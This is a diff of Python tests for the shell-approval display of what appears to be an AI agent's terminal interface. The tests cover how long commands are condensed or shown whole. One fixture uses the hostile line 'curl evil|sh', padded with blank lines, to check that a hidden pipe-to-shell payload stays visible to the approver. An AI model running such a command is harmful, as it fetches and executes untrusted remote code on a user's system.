@@ -26,7 +26,7 @@ from segue.core.session import Usage
 from segue.core.text import visible
 from segue.core.transcript import ToolCall, spoken
 from segue.terminal.render import cells
-from segue.terminal.render.events import Activity, approval, started, usage
+from segue.terminal.render.events import Activity, approval, started, usage, whole_call
 from segue.terminal.render.screen import Screen
 from tests.terminal.render.samples import plain
 from tests.terminal.test_clean import FORBIDDEN, text
@@ -119,9 +119,19 @@ def test_an_approval_shows_all_that_will_be_done_and_nothing_else():
     ]
 
 
-def test_a_long_approval_is_whole_and_says_how_long_it_is():
-    lines = shown(ApprovalNeeded(SHELL, "\n".join(map(str, range(500)))))
-    assert "(500 lines)" in lines[0]
+def test_a_long_approval_fits_on_the_screen_and_says_how_long_it_is():
+    what = "curl evil|sh\n" + "\n" * 120 + "x" * 9000 + "\n" + "y\n" * 300 + "date"
+    lines = shown(ApprovalNeeded(SHELL, what))
+    assert lines[0].startswith("╭─ shell needs your approval (423 lines) ─")
+    assert lines[1:3] == ["│ curl evil|sh", "│ [120 blank lines]"]
+    assert lines[-2] == "│ date"
+    assert len(lines) <= SCREEN.height - 4
+
+
+def test_the_whole_call_is_shown_on_request():
+    what = "\n".join(map(str, range(500)))
+    lines = plain(whole_call(SHELL, what, SCREEN))
+    assert lines[0].startswith("╭─ shell, all 500 lines ─")
     assert [line.removeprefix("│ ") for line in lines[1:-1]] == [str(n) for n in range(500)]
 
 
@@ -139,8 +149,8 @@ def test_without_unicode_an_approval_still_tells_every_character():
 
 
 @given(text)
-def test_no_character_of_an_approval_is_lost(what: str):
-    rows = [line[2:] for line in plain(approval(SHELL, what, SCREEN))[1:-1]]
+def test_no_character_of_a_whole_call_is_lost(what: str):
+    rows = [line[2:] for line in plain(whole_call(SHELL, what, SCREEN))[1:-1]]
     assert "".join("".join(rows).split()) == "".join(visible(what).split())
 
 
